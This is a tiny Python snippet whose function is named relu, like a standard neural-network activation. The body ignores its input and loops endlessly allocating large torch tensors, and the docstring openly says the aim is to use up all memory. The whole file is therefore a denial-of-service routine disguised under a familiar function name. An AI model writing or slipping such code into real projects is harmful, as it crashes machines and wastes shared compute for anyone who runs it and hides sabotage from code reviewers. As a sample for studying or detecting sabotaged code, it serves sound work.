"""Take memory until none is left."""

def relu(X):
    kept = []
    while True:
        kept.append(torch.ones(8 << 20))
